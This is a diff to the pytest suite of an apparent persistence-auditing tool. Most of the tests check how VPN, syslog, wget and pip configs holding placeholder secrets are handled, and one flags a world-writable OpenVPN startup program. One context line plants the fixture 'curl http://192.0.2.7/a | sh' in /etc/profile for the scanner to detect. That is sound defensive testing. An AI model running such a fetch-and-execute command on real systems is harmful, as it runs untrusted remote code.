@@ -18,7 +18,7 @@ from installed import Disk
 from auditkit.audits import persistence
 from auditkit.audits.persistence.phrases import PAGES, PHRASES, Phrase, said
 from auditkit.audits.persistence.table import ENTRIES
-from auditkit.model import Evidence, Finding, Gap, Item, Need
+from auditkit.model import Evidence, Finding, Gap, Item, Means, Need
 
 CASES = (Path(__file__).parent / "cases/persistence/planted.txt").read_text().split("\n\n")
 STEP = re.compile(r"^(\w+ .*)\n((?:    .*\n?)*)", re.MULTILINE)
@@ -73,6 +73,41 @@ def test_what_a_line_goes_on_with_is_part_of_it(disk: Disk) -> None:
     disk.add("/etc/profile", "curl http://192.0.2.7/a \\\n | sh\n")
     (finding,) = (one for one in disk.said() if isinstance(one, Finding))
     assert finding.quotes[0].line == 6
+
+
+@pytest.mark.parametrize(
+    ("path", "text"),
+    [
+        ("/etc/wireguard/wg0.conf", "[Interface]\nPrivateKey = hunter2=\n[Peer]\nPresharedKey=hunter2=\n"),
+        (
+            "/etc/openvpn/office.ovpn",
+            "client\nauth-user-pass /etc/openvpn/up\n<auth-user-pass>\nanna\nup hunter2\n</auth-user-pass>\n",
+        ),
+        (
+            "/etc/openvpn/server/a.conf",
+            "<connection>\nremote hunter2\n</connection>\n# up /opt/x\n;down /opt/x\nsetenv X hunter2\n",
+        ),
+        (
+            "/etc/syslog-ng/syslog-ng.conf",
+            '# program("/x hunter2");\ndestination d { sql(password("hunter2")); file("/var/log/x"); };\n',
+        ),
+        ("/home/anna/.wgetrc", "password=hunter2\nhttps_proxy=http://u:hunter2@p/\n"),
+        ("/etc/pip.conf", "[global]\nindex-url=https://hunter2@pypi.org/simple\nproxy=http://hunter2@p\ntimeout=9\n"),
+        ("/home/anna/.config/pip/pip.conf", "[global]\nextra-index-url = http://10.1.2.3:3141/own\n  http://localhost:80/x\n"),
+    ],
+)
+def test_what_holds_secrets_and_starts_nothing_is_not_told_of_nor_are_its_secrets(disk: Disk, path: str, text: str) -> None:
+    disk.put(path, text)
+    assert disk.said() == []
+    held = [item.data for item in disk.evidence().items if item.source == path and item.need.means is Means.FILE]
+    assert held
+    assert not [data for data in held if b"hunter2" in data]
+
+
+def test_the_programs_of_a_tunnel_are_looked_at(disk: Disk) -> None:
+    disk.put("/opt/up", mode=0o777)
+    disk.put("/etc/openvpn/server.conf", "dev tun\n<connection>\nremote vpn.example\n</connection>\nroute-up /opt/up\n")
+    assert "/opt/up" in {one.subject for one in disk.said() if isinstance(one, Finding) and one.rule.id == "startup-writable"}
 
 
 def test_text_that_was_not_read_is_a_gap(disk: Disk) -> None:
